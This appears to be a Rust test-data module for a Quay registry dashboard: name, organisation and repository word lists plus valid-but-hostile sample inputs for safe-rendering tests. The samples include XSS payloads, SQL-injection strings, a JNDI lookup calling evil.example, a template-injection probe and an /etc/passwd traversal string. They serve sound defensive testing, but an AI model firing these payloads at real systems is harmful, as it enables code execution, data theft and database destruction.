//! Word lists for generated names, and the hostile-but-valid samples: names, e-mails and display
//! fields that Quay accepts and a dashboard must render safely (markup, bidi overrides, zero-width
//! characters, extreme lengths, look-alikes of JSON literals and URL segments).

pub const FIRST_NAMES: &[&str] = &[
    "aaron", "abdul", "ada", "adele", "adrian", "agnes", "ahmed", "aiko", "alan", "alba", "alex",
    "alice", "amara", "amir", "ana", "anders", "andrea", "anika", "anna", "anton", "arjun",
    "astrid", "ben", "bianca", "bjorn", "bob", "boris", "brenda", "bruno", "carla", "carlos",
    "carmen", "chen", "chloe", "chris", "clara", "dana", "daniel", "dara", "david", "deepa",
    "diego", "dmitri", "elena", "eli", "emil", "emma", "enzo", "erik", "eva", "fatima", "felix",
    "fiona", "frank", "freya", "gabriel", "gina", "greta", "hana", "hannah", "hassan", "hugo",
    "ida", "igor", "ines", "ivan", "jack", "jana", "javier", "jin", "joao", "jonas", "julia",
    "kai", "karin", "kenji", "kira", "lars", "laura", "lea", "leo", "lina", "lucas", "luis",
    "maja", "marco", "maria", "mark", "maya", "mei", "mia", "mikhail", "milan", "nadia", "nina",
    "noah", "nora", "olga", "omar", "oscar", "paula", "pedro", "petra", "priya", "rafael", "raj",
    "rosa", "ruth", "sam", "sara", "sean", "sergei", "sofia", "sven", "tara", "theo", "tomas",
    "uma", "vera", "victor", "wei", "yara", "yuki", "zara", "zoe",
];

pub const LAST_NAMES: &[&str] = &[
    "abbott",
    "adams",
    "alvarez",
    "andersen",
    "bauer",
    "becker",
    "berg",
    "brown",
    "castro",
    "chen",
    "cohen",
    "costa",
    "dahl",
    "diaz",
    "dubois",
    "eriksson",
    "fischer",
    "fontaine",
    "garcia",
    "gomez",
    "gupta",
    "hansen",
    "hoffmann",
    "huang",
    "ito",
    "ivanov",
    "jensen",
    "johnson",
    "kaur",
    "kim",
    "klein",
    "kowalski",
    "kumar",
    "larsen",
    "lee",
    "lopez",
    "martin",
    "meyer",
    "moreau",
    "muller",
    "murphy",
    "nakamura",
    "nguyen",
    "novak",
    "obrien",
    "olsen",
    "patel",
    "perez",
    "petrov",
    "popescu",
    "richter",
    "rossi",
    "sato",
    "schmidt",
    "schulz",
    "silva",
    "singh",
    "smith",
    "suzuki",
    "tanaka",
    "taylor",
    "torres",
    "wagner",
    "walker",
    "wang",
    "weber",
    "williams",
    "wilson",
    "wong",
    "yamamoto",
    "young",
    "zhang",
    "zimmermann",
];

pub const EMAIL_DOMAINS: &[&str] = &[
    "example.com",
    "example.org",
    "example.net",
    "corp.example.com",
    "mail.example.io",
    "dev.example.co.uk",
    "example.de",
];

pub const ORG_PREFIXES: &[&str] = &[
    "acme", "apex", "atlas", "aurora", "beacon", "blue", "cedar", "cobalt", "comet", "coral",
    "delta", "ember", "falcon", "fjord", "globex", "granite", "harbor", "helix", "horizon",
    "indigo", "iris", "juniper", "kepler", "lumen", "maple", "meridian", "nebula", "nimbus",
    "north", "onyx", "orbit", "pioneer", "polar", "prism", "quantum", "raven", "redwood", "sage",
    "sierra", "solar", "spruce", "stellar", "summit", "tidal", "titan", "umbra", "vector",
    "vertex", "willow", "zenith",
];

pub const ORG_SUFFIXES: &[&str] = &[
    "labs",
    "platform",
    "infra",
    "data",
    "ml",
    "payments",
    "web",
    "mobile",
    "security",
    "sre",
    "devops",
    "analytics",
    "edge",
    "iot",
    "cloud",
    "apps",
    "research",
    "ops",
    "media",
    "retail",
];

pub const REPO_WORDS: &[&str] = &[
    "api",
    "web",
    "frontend",
    "backend",
    "worker",
    "scheduler",
    "gateway",
    "auth",
    "billing",
    "search",
    "indexer",
    "ingest",
    "etl",
    "metrics",
    "logging",
    "proxy",
    "cache",
    "db-migrate",
    "notifier",
    "mailer",
    "uploader",
    "renderer",
    "recommender",
    "trainer",
    "inference",
    "feature-store",
    "operator",
    "controller",
    "agent",
    "cli",
    "sidecar",
    "exporter",
    "builder",
    "runner",
    "base",
    "toolbox",
    "nginx",
    "postgres",
    "redis",
    "kafka",
    "python",
    "node",
    "golang",
    "java",
    "dotnet",
    "ubi9",
    "alpine",
    "debian",
    "jupyter",
    "pytorch",
    "tensorflow",
    "spark",
];

pub const TEAM_NAMES: &[(&str, &str)] = &[
    ("developers", "creator"),
    ("readers", "member"),
    ("release", "member"),
    ("platform", "creator"),
    ("security", "member"),
    ("admins", "admin"),
];

/// Base images whose layers many repositories share (name, number of layers).
pub const BASE_IMAGES: &[(&str, usize)] = &[
    ("ubi9", 2),
    ("ubi9-minimal", 1),
    ("ubi8", 2),
    ("alpine-3.19", 1),
    ("alpine-3.20", 1),
    ("debian-bookworm", 1),
    ("ubuntu-22.04", 1),
    ("ubuntu-24.04", 1),
    ("python-3.11", 4),
    ("python-3.12", 4),
    ("node-20", 4),
    ("node-22", 4),
    ("golang-1.22", 3),
    ("openjdk-17", 3),
    ("openjdk-21", 3),
    ("dotnet-8", 3),
    ("nginx-1.25", 3),
    ("postgres-16", 5),
    ("cuda-12.4-runtime", 6),
    ("pytorch-2.3-cuda", 8),
];

/// Valid Quay user names (`^([a-z0-9]+(?:[._-][a-z0-9]+)*)$`, 2–255 chars) chosen to break naive
/// code: JSON and JavaScript literals, number look-alikes, URL segments, SQL, maximal length.
pub fn hostile_usernames() -> Vec<String> {
    let mut names: Vec<String> = [
        "null",
        "undefined",
        "nan",
        "true",
        "none",
        "constructor",
        "prototype",
        "00",
        "1e308",
        "0x7fffffff",
        "9007199254740993",
        "select.from.users",
        "drop-table.users",
        "script.alert-1",
        "img.src-x.onerror",
        "o.brien",
        "admin.admin",
        "a.b-c_d",
        "superuser",
        "signin",
        "api",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // The longest name Quay accepts: 255 characters.
    names.push(format!("long{}name", "o".repeat(247)));
    names.push(format!("{}.{}", "a".repeat(127), "b".repeat(127)));
    names
}

/// Organization names that are valid but awkward.
pub fn hostile_org_names() -> Vec<String> {
    let mut names: Vec<String> = [
        "a.b",
        "con",
        "nul",
        "aux",
        "static",
        "v1",
        "organization",
        "1234567890",
        "x-y_z.w",
        "discovery",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    names.push(format!("org{}", "-x".repeat(126)));
    names
}

/// E-mail addresses Quay stores as given (mailing off: no format check beyond its loose one).
pub fn hostile_emails() -> Vec<String> {
    [
        "\"<img src=x onerror=alert(1)>\"@example.com",
        "\"<script>alert(document.cookie)</script>\"@example.com",
        "robert');DROP.TABLE.users;--@example.com",
        "\u{202e}gnp.lanigiro@example.com",
        "zero\u{200b}width\u{200d}joiner@example.com",
        "\u{1f600}.rocket\u{1f680}@example.com",
        "m\u{fc}ller@b\u{fc}cher.example",
        "${jndi:ldap://evil.example/a}@example.com",
        "{{7*7}}@example.com",
        "../../etc/passwd@example.com",
        "first.last+quay-demo@sub.example.co.uk",
        "UPPER.Case@EXAMPLE.COM",
        " leading.space@example.com",
        "\u{5d0}\u{5d1}\u{5d2}@example.co.il",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain(std::iter::once(format!(
        "{}@{}.example.com",
        "l".repeat(64),
        "d".repeat(174)
    )))
    .collect()
}

/// Display-only profile fields (given name, family name, company, location).
pub const HOSTILE_DISPLAY: &[(&str, &str, &str, &str)] = &[
    (
        "<b>Bold</b>",
        "<script>alert(1)</script>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(1)",
    ),
    (
        "\u{202e}dlroW",
        "O'Brien-\u{141}ukasz",
        "Acme\u{200b}Corp\u{feff}",
        "\u{627}\u{644}\u{631}\u{64a}\u{627}\u{636}",
    ),
    (
        "Zo\u{eb}",
        "\u{65e5}\u{672c}\u{8a9e}",
        "'; DROP TABLE users;--",
        "\u{1d57f}\u{1d594}\u{1d590}\u{1d59e}\u{1d594}",
    ),
    ("\u{1f9d1}\u{200d}\u{1f4bb}", "Null", "undefined", "NaN"),
];

/// A company name of 1,000 characters (Quay's column is unbounded text).
pub fn very_long_company() -> String {
    "Very Long Company Name Incorporated ".repeat(28)[..1000].to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_names_are_valid_for_quay() {
        for name in hostile_usernames().iter().chain(&hostile_org_names()) {
            assert_eq!(quay_rules::check_namespace(name), Ok(()), "{name}");
        }
        assert_eq!(hostile_usernames().iter().map(|n| n.len()).max(), Some(255));
    }

    #[test]
    fn hostile_emails_pass_quays_check() {
        for email in hostile_emails() {
            assert!(quay_rules::is_valid_email(&email), "{email:?}");
        }
    }

    #[test]
    fn generated_words_are_valid_namespace_parts() {
        for word in FIRST_NAMES
            .iter()
            .chain(LAST_NAMES)
            .chain(ORG_PREFIXES)
            .chain(ORG_SUFFIXES)
        {
            assert_eq!(quay_rules::check_namespace(word), Ok(()), "{word}");
        }
    }
}
